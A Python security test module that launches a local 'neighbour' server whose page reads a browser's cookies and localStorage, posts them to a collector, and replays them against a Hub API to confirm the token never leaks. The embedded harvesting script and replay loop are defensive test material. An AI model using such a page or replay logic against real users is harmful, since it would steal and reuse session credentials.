"""The Hub's credential and another account: a real Chromium logs into the Hub by the URL it
printed, then visits a page that another account (``nobody``) serves on another loopback port,
directly and through a link from another site (``localhost`` is not the site ``127.0.0.1``).
That neighbour records every request it receives, headers and bodies, and its page reports what
the browser lets it read (``document.cookie``, its localStorage and sessionStorage) and asks the
Hub's API with the browser's credentials.

Invariants: nothing the neighbour received holds the token; replaying every header value and
everything its page read, as a cookie, a bearer token or ``X-C3-Token``, gets 401 from the API
and no transcript text; the browser holds no cookie for the Hub, its token is in the Hub's own
origin's storage only, gone from the address bar. A control shows the probe sees what a browser
sends to every port: a cookie of the old form planted in another browser context reaches the
neighbour, is no credential at the Hub, and is expired by the Hub's page.

Needs root to run the neighbour as ``nobody`` (without it, the neighbour runs as this account,
said in a note) and Chromium (without it, only the HTTP checks run). Figures: the requests and
header values the neighbour saw, and the replays.
"""

from __future__ import annotations

import json
import os
import pwd
import random
import secrets
import subprocess
import sys
import textwrap
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager

from .harness import Result, Sandbox, make_project, register
from .hostile_neighbour import SYSTEM_PYTHON, _stop, start_hub

CLASS = "the Hub's credential and another account"
WAIT_MS = 20_000
TOKEN_KEY = "c3async-hub-token"  # where the page keeps the token (static/app.js)

# The neighbour: a plain http.server on 127.0.0.1, any free port (printed first). Its page reads
# what the browser lets it read and posts that to /report, then says so in its title; /link is a
# page with a link to it (opened as http://localhost:PORT/link: another site). On SIGTERM it
# prints every request it received as JSON and exits.
NEIGHBOUR = textwrap.dedent(
    r'''
    import http.server, json, signal, sys, threading
    hub = sys.argv[1]
    seen, lock = [], threading.Lock()
    PAGE = """<!doctype html><meta charset="utf-8"><title>the neighbour</title>
    <p>A page of another account.</p><img src="HUB/api/sessions" alt="">
    <script>
    const dump = (s) => { const o = {}; for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); return o; };
    const found = { cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage) };
    fetch("HUB/api/projects", { credentials: "include", mode: "no-cors" }).catch(() => null)
      .then(() => fetch("/report", { method: "POST", body: JSON.stringify(found) }))
      .then(() => { document.title = "reported"; });
    </script>"""
    LINK = '<!doctype html><meta charset="utf-8"><title>another site</title><a id="go" href="OWN/?via=link">go</a>'

    class Handler(http.server.BaseHTTPRequestHandler):
        def record(self, body=b""):
            with lock:
                seen.append({"method": self.command, "path": self.path, "headers": list(self.headers.items()),
                             "body": body.decode("utf-8", "replace")})

        def answer(self, html):
            data = html.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):
            self.record()
            if self.path.startswith("/link"):
                self.answer(LINK.replace("OWN", own))
            elif self.path.startswith("/favicon"):
                self.send_error(404)
            else:
                self.answer(PAGE.replace("HUB", hub))

        def do_POST(self):
            self.record(self.rfile.read(min(int(self.headers.get("Content-Length") or 0), 1 << 20)))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    def stop(*_):
        raise SystemExit

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    own = f"http://127.0.0.1:{server.server_address[1]}"
    signal.signal(signal.SIGTERM, stop)
    print(server.server_address[1], flush=True)
    try:
        server.serve_forever()
    except SystemExit:
        pass
    with lock:
        print(json.dumps(seen), flush=True)
    '''
)


class Neighbour:
    """The neighbour's server, run as ``account`` (None: this one) with ``python``. ``url`` is
    its page, ``link_url`` another site's page with a link to it (``#go``); ``stop()`` returns
    every request it received: ``{method, path, headers: [[name, value]], body}``."""

    def __init__(self, hub_url: str, account: pwd.struct_passwd | None = None, python: str = sys.executable) -> None:
        ids = {} if account is None else {"user": account.pw_uid, "group": account.pw_gid, "extra_groups": []}
        self.proc = subprocess.Popen(
            [python, "-I", "-c", NEIGHBOUR, hub_url],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={"PATH": "/usr/bin:/bin"},
            cwd="/",
            **ids,
        )
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline()  # the handshake: its port, once it listens
        if not line.strip().isdigit():
            self.proc.kill()
            raise RuntimeError(f"the neighbour did not start: {line!r} {self.proc.communicate()[1][-300:]!r}")
        self.port = int(line)
        self.url = f"http://127.0.0.1:{self.port}/"
        self.link_url = f"http://localhost:{self.port}/link"

    def stop(self) -> list[dict]:
        if self.proc.poll() is None:
            self.proc.terminate()
        try:
            out, _ = self.proc.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            out, _ = self.proc.communicate()
        try:
            return json.loads(out.strip().splitlines()[-1])
        except (ValueError, IndexError):
            return []


def visit(page, neighbour: Neighbour) -> None:
    """The neighbour's page in ``page``: directly, then through the other site's link, each
    time until it has reported what it could read."""
    page.goto(neighbour.url)
    page.wait_for_function("document.title === 'reported'", timeout=WAIT_MS)
    page.goto(neighbour.link_url)
    with page.expect_navigation(timeout=WAIT_MS):
        page.click("#go")
    page.wait_for_function("document.title === 'reported'", timeout=WAIT_MS)


def received(requests: list[dict]) -> list[str]:
    """Every value the neighbour got: header values, bodies, and what its page read."""
    values = [v for r in requests for _, v in r["headers"]] + [r["body"] for r in requests if r["body"]]
    values += [
        part.partition("=")[2]
        for r in requests
        for k, v in r["headers"]
        if k.lower() == "cookie"
        for part in v.split(";")
    ]
    for r in requests:
        if r["path"] == "/report":
            try:
                found = json.loads(r["body"])
            except ValueError:
                continue
            values += [found.get("cookie") or "", *found.get("local", {}).values(), *found.get("session", {}).values()]
            values += [part.partition("=")[2] for part in (found.get("cookie") or "").split(";")]
    return [v for v in values if v]


def api_status(hub_url: str, headers: dict[str, str]) -> tuple[int, bytes]:
    req = urllib.request.Request(hub_url + "/api/sessions", headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def replays(hub_url: str, values: list[str], secret: str) -> tuple[int, list[str]]:
    """Each value as a cookie, a bearer token and X-C3-Token (the cookie also under the name the
    token once had): how many were tried, and those the API did not refuse."""
    port = hub_url.rsplit(":", 1)[1]
    tried, let_in = 0, []
    for value in dict.fromkeys(values):
        value = value.replace("\r", " ").replace("\n", " ")[:4000]
        try:
            value.encode("latin-1")
        except UnicodeEncodeError:
            continue  # not a header value a client could send
        for headers in (
            {"Cookie": value},
            {"Cookie": f"c3async-hub-{port}={value}"},
            {"Authorization": f"Bearer {value}"},
            {"X-C3-Token": value},
        ):
            tried += 1
            status, body = api_status(hub_url, headers)
            if status != 401 or secret.encode() in body:
                let_in.append(f"{next(iter(headers))}: {value[:40]!r} -> {status}")
    return tried, let_in


@contextmanager
def running_hub(sb: Sandbox) -> Iterator[tuple[str, str]]:
    """``c3async hub --port 0`` in the sandbox: (its URL, its token)."""
    hub, port, token = start_hub(sb.env())
    try:
        yield f"http://127.0.0.1:{port}", token
    finally:
        _stop(hub)


def check(res: Result, sb: Sandbox, quick: bool) -> None:
    project = make_project(sb, "credential", 3, random.Random(29))
    register(sb, project)
    secret = next(iter(project.sessions.values())).ai_title or ""  # in the listing the API gives
    with running_hub(sb) as (hub_url, token):
        status, body = api_status(hub_url, {"X-C3-Token": token})
        res.check(
            status == 200 and secret.encode() in body,
            "the token opens the API (the control)",
            f"{status}: {body[:200]!r}",
        )
        req = urllib.request.Request(f"{hub_url}/?token={token}")
        with urllib.request.urlopen(req, timeout=30) as r:
            cookies, page = r.headers.get_all("Set-Cookie") or [], r.read()
        res.check(
            not cookies and token.encode() not in page,
            "the printed URL sets no cookie and the page holds no token",
            f"Set-Cookie {cookies}; token in the page: {token.encode() in page}",
        )
        status, _ = api_status(hub_url, {"Cookie": f"c3async-hub-{hub_url.rsplit(':', 1)[1]}={token}"})
        res.check(status == 401, "a cookie of the old form, the real token in it, opens nothing", f"answered {status}")
        from .chromium import missing

        if missing() is not None:
            res.note(f"no browser: {missing()}; the browser checks were not run")
            return
        _browser(res, hub_url, token, secret)


def _browser(res: Result, hub_url: str, token: str, secret: str) -> None:
    from .chromium import launched

    account = None
    if os.geteuid() == 0 and SYSTEM_PYTHON is not None:
        account = pwd.getpwnam("nobody")
    else:
        res.note("not root (or no system Python): the neighbour ran as this account, not as nobody")
    neighbour = Neighbour(hub_url, account, SYSTEM_PYTHON if account else sys.executable)
    marker = "control-" + secrets.token_hex(8)
    try:
        with launched() as browser:
            user = browser.new_context()
            hub_page = user.new_page()
            hub_page.goto(f"{hub_url}/?token={token}")
            hub_page.wait_for_selector("#rows li", timeout=WAIT_MS)
            kept = hub_page.evaluate(f"localStorage.getItem({TOKEN_KEY!r})")
            res.check(
                kept == token and token not in hub_page.url,
                "the page keeps the token in its origin's storage, out of the address bar",
                f"kept {kept is not None}, address {hub_page.url[:80]!r}",
            )
            res.check(user.cookies() == [], "the browser holds no cookie for the Hub", f"{user.cookies()}")
            visit(user.new_page(), neighbour)  # the Hub's page stays open meanwhile
            hub_page.reload()
            hub_page.wait_for_selector("#rows li", timeout=WAIT_MS)
            res.check(
                token not in hub_page.url,
                "a reload still lists the rows, with no token in the address",
                hub_page.url[:80],
            )
            # the control: a cookie as the Hub used to set, in another context, reaches the neighbour
            control = browser.new_context()
            control.add_cookies(
                [{"name": f"c3async-hub-{hub_url.rsplit(':', 1)[1]}", "value": marker, "url": hub_url + "/"}]
            )
            visit(control.new_page(), neighbour)
            page = control.new_page()
            page.goto(hub_url + "/")  # no token: the page goes on to /welcome; the old cookie is expired
            res.check(
                control.cookies() == [], "the Hub's page expires a cookie of the old form", f"{control.cookies()}"
            )
    finally:
        requests = neighbour.stop()
    values = received(requests)
    pages = [r for r in requests if r["method"] == "GET" and r["path"] != "/favicon.ico"]
    reports = [r for r in requests if r["path"] == "/report"]
    res.check(
        len(pages) >= 6 and len(reports) == 4,
        "the neighbour was visited directly and through a link, and its page reported",
        f"{len(pages)} pages, {len(reports)} reports",
    )
    res.check(
        any(marker in v for v in values),
        "the probe sees what a browser sends to another port (the control)",
        "the planted cookie never reached the neighbour",
    )
    leaked = [v[:60] for v in values if token in v]
    res.check(not leaked, "nothing the neighbour received or read holds the token", f"{leaked[:3]}")
    tried, let_in = replays(hub_url, values, secret)
    res.check(not let_in, "replaying anything the neighbour received gets 401", "; ".join(let_in[:3]))
    res.fig("requests the neighbour received", f"{len(requests)} ({len(pages)} pages, {len(reports)} reports)")
    res.fig("values checked for the token", f"{len(values)} (headers, bodies, what its page read)")
    res.fig("replays against the API", f"{tried}, all 401" if not let_in else f"{tried}, {len(let_in)} let in")
